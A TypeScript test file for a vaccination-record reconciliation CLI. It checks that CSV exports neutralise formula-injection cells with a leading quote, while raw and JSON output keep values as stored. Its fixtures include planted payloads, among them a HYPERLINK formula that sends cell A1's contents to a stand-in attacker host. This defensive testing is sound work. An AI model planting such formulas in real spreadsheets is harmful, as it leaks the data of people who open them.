import { join } from 'node:path'
import { expect, test } from 'vitest'
import { createWorkspace } from '../../main/core/workspace/index.ts'
import { cliInProcess } from '../helpers/cli.ts'
import { tempDir } from '../helpers/tmp.ts'

/** Cells an attacker would plant in a site's spreadsheet, as the auditor did. */
const PLANTED = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', '@SUM(1)', '+1+1', '-2+3', '\tcmd', '\rcmd']

function workspaceWithPlantedCells(): string {
  const path = join(tempDir(), 'csv.vaxrecon')
  const ws = createWorkspace(path)
  ws.tx(() => {
    const imp = Number(
      ws.db
        .prepare(`INSERT INTO imports (kind, file_name, file_hash, imported_at) VALUES ('site', ?, 'h', '2026-12-01T00:00:00.000Z')`)
        .run('=HYPERLINK("http://evil.example","tram.xlsx")').lastInsertRowid
    )
    PLANTED.forEach((name, i) =>
      ws.db
        .prepare(
          `INSERT INTO records (import_id, kind, source_sheet, source_row, raw_json, full_name, national_id) VALUES (?, 'site', 'Sheet1', ?, '{}', ?, '001080012345')`
        )
        .run(imp, i + 2, name)
    )
  })
  ws.close()
  return path
}

const fields = (csv: string) =>
  csv
    .split('\r\n')
    .slice(1)
    .filter((l) => l !== '')

test('rows and links CSV neutralise formula-leading cells with a leading quote; --raw writes them as stored; --help says so', async () => {
  const path = workspaceWithPlantedCells()
  const rows = await cliInProcess(['rows', path, '--kind', 'site', '--format', 'csv'])
  expect(rows.code, rows.stderr).toBe(0)
  const lines = fields(rows.stdout)
  expect(lines).toHaveLength(PLANTED.length)
  // No cell of any line starts with a formula character once quoting is undone.
  for (const cell of lines.flatMap((l) => l.split(','))) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/)
  expect(rows.stdout).toContain(`'@SUM(1)`)
  expect(rows.stdout).toContain(`'+1+1`)
  expect(rows.stdout).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Bấm vào đây"")"`)

  const links = await cliInProcess(['links', path, '--format', 'csv'])
  expect(links.code, links.stderr).toBe(0)
  expect(links.stdout).toContain(`"'=HYPERLINK(""http://evil.example"",""tram.xlsx"")"`)

  const raw = await cliInProcess(['rows', path, '--kind', 'site', '--format', 'csv', '--raw'])
  expect(raw.stdout).toContain('@SUM(1)')
  expect(raw.stdout).not.toContain(`'@SUM(1)`)
  // JSON is data, not a spreadsheet: it keeps values as stored.
  const json = await cliInProcess(['rows', path, '--kind', 'site', '--format', 'json'])
  expect(JSON.parse(json.stdout).map((r: { full_name: string }) => r.full_name)).toEqual(PLANTED)

  for (const cmd of ['rows', 'links']) expect((await cliInProcess([cmd, '--help'])).stdout).toContain('OWASP')
})
